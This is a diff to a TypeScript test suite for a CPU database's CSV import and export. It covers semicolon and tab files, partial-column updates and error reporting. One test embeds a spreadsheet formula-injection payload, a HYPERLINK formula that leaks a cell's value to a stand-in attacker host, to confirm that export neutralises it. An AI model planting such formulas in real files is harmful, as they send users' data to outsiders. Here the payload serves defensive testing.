@@ -320,6 +320,60 @@ describe.each(testDatabases)("CSV import and export on $name", (database) => {
     });
   });
 
+  it("imports a semicolon file (European Excel) and a tab file like a comma file", async () => {
+    const { header, rows } = await exportedRows();
+    const row = [...rows.find((cells) => cells[0] === "fixture-csv-f")!];
+    row[header.indexOf("tdp")] = "95";
+    row[header.indexOf("base_freq")] = "3,4";
+    const semicolons = [header, row].map((cells) => quoted(cells).replaceAll('","', '";"'));
+    const response = await upload(semicolons.join("\r\n"));
+    expect(response.status).toBe(200);
+    expect(await response.json()).toEqual({ created: 0, updated: 1, unchanged: 0 });
+    expect(await cpuDetail("fixture-csv-f")).toMatchObject({ tdp: 95, baseFreq: 3.4 });
+    const stored = (await exportedRows()).rows.find((cells) => cells[0] === "fixture-csv-f")!;
+    const tabs = [header, stored].map((cells) => cells.join("\t")).join("\n");
+    expect(await (await upload(tabs)).json()).toEqual({ created: 0, updated: 0, unchanged: 1 });
+  });
+
+  it("applies a file with only some columns to the CPUs it names, and says which", async () => {
+    const before = await cpuDetail("fixture-csv-b");
+    const text = "id,price,tdp\nfixture-csv-b,249,88\nfixture-csv-c,,\n";
+    const preview = await importCpuCsv(db, text, { dryRun: true });
+    expect(preview).toMatchObject({ dryRun: true, updated: 2, columns: ["id", "price", "tdp"] });
+    expect(await cpuDetail("fixture-csv-b")).toEqual(before);
+
+    const outcome = await importCpuCsv(db, text);
+    expect(outcome).toEqual({
+      kind: "imported",
+      dryRun: false,
+      created: 0,
+      updated: 2,
+      unchanged: 0,
+      columns: ["id", "price", "tdp"],
+      partial: true,
+      ids: { created: [], updated: ["fixture-csv-b", "fixture-csv-c"], unchanged: [] },
+    });
+    const after = await cpuDetail("fixture-csv-b");
+    // Only price and tdp changed: name, specifications, source and figures are as they were.
+    expect(after).toEqual({ ...before, price: 249, tdp: 88 });
+    expect(await cpuDetail("fixture-csv-c")).toMatchObject({ price: null, tdp: null });
+    // The same file again changes nothing.
+    expect(await importCpuCsv(db, text)).toMatchObject({ updated: 0, unchanged: 2 });
+  });
+
+  it("exports text a spreadsheet would run as a formula behind a quote, and imports it back", async () => {
+    const name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const text = await csvOf(["fixture-csv-d"], { 2: { id: "fixture-csv-formula", name } });
+    expect((await upload(text)).status).toBe(200);
+    const { header, rows } = await exportedRows();
+    const row = rows.find((cells) => cells[0] === "fixture-csv-formula")!;
+    expect(row[header.indexOf("name")]).toBe(`'${name}`);
+    // Export → import: the quote is removed again and nothing changes.
+    const exported = await exportText();
+    expect(await importCpuCsv(db, exported)).toMatchObject({ created: 0, updated: 0 });
+    expect((await cpuDetail("fixture-csv-formula"))?.name).toBe(name);
+  });
+
   describe("a file with any invalid row", () => {
     const cases: [string, () => Promise<string>, { line: number; field: string | null }[]][] = [
       [
@@ -358,21 +412,19 @@ describe.each(testDatabases)("CSV import and export on $name", (database) => {
       [
         "an unknown column",
         async () => (await csvOf(["fixture-csv-e"])).replace("id,name", "id,nam"),
-        [
-          { line: 1, field: "nam" },
-          { line: 1, field: "name" },
-        ],
+        [{ line: 1, field: "nam" }],
       ],
       [
-        "a missing column",
+        "a required column missing for a new CPU",
         async () => {
           const [header, row] = (await csvOf(["fixture-csv-e"])).split("\n");
           const keep = (cells: string[]) => cells.filter((_, i) => i !== 4);
           const cells = parse(row!)[0] as string[];
           return `${keep(header!.split(",")).join(",")}\n${quoted(keep(cells))}\n`;
         },
-        [{ line: 1, field: "cores" }],
+        [{ line: 2, field: "cores" }],
       ],
+      ["no id column", async () => "name,tdp\nFixture CSV E,65\n", [{ line: 1, field: "id" }]],
     ];
 
     it.each(cases)(
@@ -481,7 +533,16 @@ describe.each(testDatabases)("CSV import and export on $name", (database) => {
       problems: [{ line: 2, field: "cores", message: "must be a number, not 'x'" }],
     });
     const same = await importCpuCsv(db, await csvOf(["fixture-csv-e"]));
-    expect(same).toEqual({ kind: "imported", created: 0, updated: 0, unchanged: 1 });
+    expect(same).toEqual({
+      kind: "imported",
+      dryRun: false,
+      created: 0,
+      updated: 0,
+      unchanged: 1,
+      columns: CSV_COLUMN_NAMES,
+      partial: false,
+      ids: { created: [], updated: [], unchanged: ["fixture-csv-e"] },
+    });
   });
 });
 
@@ -494,11 +555,12 @@ describe.each(testDatabases)("the shipped dataset through CSV and the API on $na
     const cpusBefore = await db.select().from(cpus).orderBy(cpus.id);
     const resultsBefore = await db.select().from(benchmarkResults).orderBy(benchmarkResults.id);
     expect(parse(exported)).toHaveLength(cpusBefore.length + 1);
-    expect(await importCpuCsv(db, exported)).toEqual({
+    expect(await importCpuCsv(db, exported)).toMatchObject({
       kind: "imported",
       created: 0,
       updated: 0,
       unchanged: cpusBefore.length,
+      partial: false,
     });
     expect(await db.select().from(cpus).orderBy(cpus.id)).toEqual(cpusBefore);
     expect(await db.select().from(benchmarkResults).orderBy(benchmarkResults.id)).toEqual(
